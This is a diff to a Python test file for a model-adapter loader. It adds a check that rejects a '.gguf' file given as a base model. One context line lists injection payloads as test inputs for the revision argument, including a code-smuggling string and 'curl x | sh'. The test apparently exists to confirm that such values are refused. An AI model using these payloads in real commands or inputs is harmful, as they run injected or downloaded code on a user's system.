@@ -111,6 +111,7 @@ def test_reading_creates_neither_an_experiment_nor_a_database(tmp_path, uri, mon
     [
         ("tinny", "", "no base model 'tinny'"),
         ("./nowhere", "", "there is no such folder"),
+        ("./q4.gguf", "", "no base model './q4.gguf'"),
         ("tiny", "tiny", "is a base model itself"),
         ("moved", "", "was trained on '/old/place', which is not here"),
         ("moved", "nonsense", "no base model 'nonsense'"),
@@ -123,9 +124,11 @@ def test_mistakes(tmp_path, monkeypatch, name, base_model, what):
     adapter(tmp_path / "moved", base="/old/place")
     adapter(tmp_path / "silent", base="", record=False)
     (adapter(tmp_path / "broken") / "codekiln.json").write_text("[]")
+    (tmp_path / "q4.gguf").touch()
     with pytest.raises(InputError, match=what) as refused:
         opened(name, base_model)
     assert refused.value.fix
+    assert ("GGUF" in refused.value.fix) == name.endswith(".gguf")
 
 
 @pytest.mark.parametrize("revision", ['main"); import os; ("', "main; curl x | sh", "--trust-remote-code", ""])
